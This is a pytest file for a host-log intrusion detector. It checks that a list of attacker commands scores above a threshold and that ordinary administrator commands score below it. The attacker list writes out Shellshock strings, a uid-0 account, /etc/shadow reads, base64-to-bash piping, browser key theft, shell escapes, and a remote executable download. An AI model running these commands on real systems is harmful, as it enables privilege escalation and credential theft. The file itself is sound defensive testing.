"""What hands do in a shell once they are where they should not be is told; what administrators do there is not."""

import pytest

from detectors.logs.test_known_ways import TOLD, _weight
from detectors.played import decoded
from pipeline.detectors.logs.host_rule_set import HOST_RULES


@pytest.mark.parametrize(
    "command",
    [
        "/bin/bash -c 'exec /bin/sh 0<&1'", "/usr/bin/podman run -v /:/mnt alpine",
        "/bin/sh -c 'PAGER=/bin/sh man man'", "/bin/bash -c 'GIT_SSH_COMMAND=\"sh -c sh\" git pull'",
        "/bin/bash -c 'x=\"() { :;}; id\" bash -c id'", "/bin/chsh --shell /bin/bash nobody",
        "/usr/sbin/useradd -o -u 0 toor", "/bin/dd if=/proc/77/mem of=/tmp/x",
        "/usr/bin/find / -name key4.db -exec cp {} /tmp ;",
        "/bin/sh -c 'for i in $(seq 1 254); do ping -c 1 10.0.0.$i; done'",
        "/bin/sh -c 'echo aWQ= | base64 -d | /bin/bash'", "/bin/bash -c 'echo aWQ= | base64 -d | sh'",
        "/bin/bash -c 'echo aWQ= | base64 -d |sh; exit'", "findstr /V /L W3 \\\\10.0.0.5\\s\\a.exe > c:\\a.exe",
        "/bin/bash -c 'eval $(echo aWQ= | base64 --decode)'", "/bin/bash -c cat${IFS}/etc/shadow",
        "/usr/bin/cloudflared tunnel --url localhost:22", "/usr/bin/gobuster dir -u http://10.0.0.5",
        "/usr/bin/openssl rsautl -encrypt -inkey p.pem -in a",
        "/usr/bin/osascript -e 'display dialog x with hidden answer'",
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\TerminalServer\\WinStations\\RDP-Tcp /v SecurityLayer /d 0",
        "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v UseTPMPIN /d 2",
        'reg add "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\x.exe" /d C:\\a.exe',
        "rpcping -s 10.0.0.5 -e 9997 -a connect -u NTLM",
        "winrm invoke Create wmicimv2/Win32_Process @{CommandLine=1}",
        "fsutil behavior set SymlinkEvaluation R2L:1", "powershell noisserpxE-ekovnI",
        "powershell . $env:ComSpec[4,15,25]",
        "mmc -Embedding C:\\a.msc", "ilasm C:\\a.txt /exe",
    ],
)  # fmt: skip
def test_hands_of_strangers(command: str) -> None:
    assert _weight(command) >= TOLD


@pytest.mark.parametrize(
    "command",
    [
        "/usr/sbin/usermod -aG video www-data", "/usr/sbin/usermod -s /usr/sbin/nologin games",
        "/usr/bin/passwd -l sync",
        "/usr/bin/less /etc/hosts", "/usr/bin/openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc",
        "/usr/bin/find / -xdev -type f -perm -4000", "/bin/ps aux", "/usr/bin/id -u",
        "/usr/bin/touch -t 202401010000 a",
        "/usr/bin/curl -d done https://hooks.slack.com/services/x", "/usr/bin/grep -r password .",
        "rundll32 printui.dll,PrintUIEntry /in /n \\\\10.1.1.5\\printer",
        "csc /noconfig @C:\\Users\\anna\\AppData\\x.cmdline",
        "powershell Limit-EventLog -LogName Application -MaximumSize 20MB",
        "powershell New-VM -Name a -SwitchName lan",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced /v HideFileExt /d 0",
        "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v AUOptions /d 4",
        "netsh advfirewall firewall set rule group=remote desktop new enable=yes",
        "mmc C:\\Users\\anna\\Desktop\\house.msc", "/bin/bash -c 'echo $SUM | xxd -r -p | sha256sum'",
        "/bin/sh -c 'GIT_SSH_COMMAND=\"ssh -i k\" git pull'", "/bin/bash -c 'PAGER=cat systemctl status'",
        "/bin/sh -c 'rsync --rsh=ssh -a a b:'", "/bin/bash -c 'f() { date; }; f'",
        "/bin/sh -c 'base64 -d a.b64 | sha256sum -c'",
        "/bin/sh -c 'curl -s https://example.org/a.tgz | sha256sum'",
        "findstr /v /l DEBUG c:\\log\\hl7.log > c:\\log\\short.log",
    ],
)  # fmt: skip
def test_hands_of_administrators(command: str) -> None:
    assert _weight(command) < TOLD


def test_a_shell_under_a_pager() -> None:
    shell = {
        "kind": "process",
        "action": "start",
        "ts": 1e6,
        "host": "h",
        "command_line": "/bin/sh",
        "image": "/bin/sh",
    }
    for parent, told in (("/usr/bin/less", True), ("/usr/bin/sshd", False), ("/usr/bin/screen", False)):
        hits = HOST_RULES.hits(decoded("logs", [shell | {"parent_image": parent}]))
        assert any(HOST_RULES.rules[n].weight >= TOLD for n in hits.numbers) == told


def test_each_condition_stands_once() -> None:
    seen = [frozenset((when[0], frozenset(when[1:])) for when in rule.when) for rule in HOST_RULES.rules]
    assert len(set(seen)) == len(seen)
